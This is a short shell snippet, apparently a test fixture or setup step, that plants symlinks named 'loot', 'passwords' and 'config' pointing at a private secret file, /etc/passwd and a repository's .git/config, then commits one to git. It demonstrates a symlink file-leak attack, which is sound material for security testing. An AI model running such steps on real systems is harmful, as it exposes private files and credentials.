ln -s "$PRIVATE/secret.txt" loot
ln -s "$PRIVATE" whole
git add loot && git commit -qm loot
ln -s "$USER_REPO/.git/config" config
ln -s /etc/passwd passwords
echo planted
